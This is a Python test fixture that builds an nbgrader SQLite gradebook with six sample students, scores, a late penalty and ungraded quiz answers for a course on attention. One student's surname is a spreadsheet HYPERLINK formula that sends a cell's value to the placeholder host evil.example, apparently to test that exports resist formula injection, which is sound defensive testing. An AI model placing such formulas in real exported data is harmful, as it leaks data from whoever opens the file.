"""A graded course in a second: a course folder whose SQLite gradebook holds what nbgrader's autograde leaves (the
release notebooks' grade cells, the students with their roster numbers, scored submissions, a late penalty, the
quiz's written answers waiting for a person), written with nbgrader's own ``Gradebook`` API, no grading run.

For the tests of what reads a graded course (the report, the LMS files, extensions, the class summary): they need
the gradebook's shape, not a sandbox. The end-to-end path (real submissions, real grading) is the demo's tests
(tests/demo/test_classroom.py).
"""
from __future__ import annotations

import datetime as dt
import shutil
from dataclasses import dataclass, field
from pathlib import Path

import nbformat

from autograder import course

ROOT = course.ROOT
DUE = dt.datetime(2026, 12, 7, 14, 59, 0)   # attention's due date (23:59 KST) in UTC, as nbgrader keeps it


@dataclass
class Person:
    username: str
    number: str           # the roster's student_id: the gradebook's lms_user_id
    last: str
    first: str
    attention: dict | None = None   # exercise -> score (missing: full marks); None: not handed in
    late_days: float = 0.0          # handed in this many days after the due date
    quiz: str | None = None         # "pending" (written answers not graded yet), "graded", None: not handed in
    email: str = ""


FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"클릭")'
PEOPLE = [
    Person("kimmj", "2026001", "김", "민준", {}, quiz="pending", email="kimmj@example.ac.kr"),
    Person("leesy", "2026002", "이", "서연", {"softmax": 0, "causal_mask": 1}, quiz="graded"),
    Person("parkdy", "2026003", "박", "도윤", {"multi_head_attention_layer": 0, "causal_mask": 0}),
    Person("choihe", "2026004", "최", "하은", {}, late_days=1.2, quiz="pending"),
    Person("mallory", "2026005", FORMULA, "", {"softmax": 1, "self_attention": 0}, quiz="pending"),
    Person("jungsw", "2026006", "정", "시우", None),
]


@dataclass
class GradedCourse:
    dir: Path
    people: list = field(default_factory=lambda: list(PEOPLE))

    @property
    def db_url(self) -> str:
        return f"sqlite:///{self.dir / 'gradebook.db'}"


def grade_cells(assignment: str) -> list[tuple[str, float, str]]:
    """(grade id, points, cell type) of the release notebook's grade cells."""
    nb = nbformat.read(str(ROOT / "release" / assignment / f"{assignment}.ipynb"), as_version=4)
    return [(c.metadata.nbgrader["grade_id"], float(c.metadata.nbgrader["points"]), c.cell_type)
            for c in nb.cells if c.metadata.get("nbgrader", {}).get("grade")]


def make(folder: Path, people=PEOPLE) -> GradedCourse:
    """A graded course at ``folder`` (made; course_config.py and nbgrader_config.py copied in)."""
    from nbgrader.api import Gradebook

    from autograder.patches.gradebook import head_in_process

    head_in_process()   # a new gradebook's schema version without starting `alembic`
    folder.mkdir(parents=True, exist_ok=True)
    for name in course.COURSE_FILES:
        shutil.copy(ROOT / name, folder / name)
    graded = GradedCourse(folder, list(people))
    with Gradebook(graded.db_url, "attention-ko") as gb:
        for assignment, due in (("attention", DUE), ("quiz", DUE + dt.timedelta(days=11))):
            gb.update_or_create_assignment(assignment, duedate=due)
            gb.update_or_create_notebook(assignment, assignment)
            for grade_id, points, kind in grade_cells(assignment):
                gb.update_or_create_grade_cell(grade_id, assignment, assignment, max_score=points, cell_type=kind)
        for p in people:
            gb.update_or_create_student(p.username, last_name=p.last, first_name=p.first, email=p.email or None,
                                        lms_user_id=p.number)
            if p.attention is not None:
                when = DUE + dt.timedelta(days=p.late_days) if p.late_days else DUE - dt.timedelta(hours=3)
                sub = gb.add_submission("attention", p.username, timestamp=when)
                nb = sub.notebooks[0]
                for grade in nb.grades:
                    name = grade.name.removeprefix("test_")
                    grade.auto_score = p.attention.get(name, grade.max_score)
                    grade.needs_manual_grade = False
                gb.db.commit()
                if p.late_days:
                    nb.late_submission_penalty = round(nb.score * 0.1 * -(-p.late_days // 1), 3)
                gb.db.commit()
            if p.quiz is not None:
                sub = gb.add_submission("quiz", p.username, timestamp=DUE + dt.timedelta(days=10))
                for grade in sub.notebooks[0].grades:
                    if grade.name.startswith("test_"):
                        grade.auto_score, grade.needs_manual_grade = 1.0, False
                    elif p.quiz == "graded":
                        grade.manual_score, grade.needs_manual_grade = 1.5, False
                gb.db.commit()
    return graded
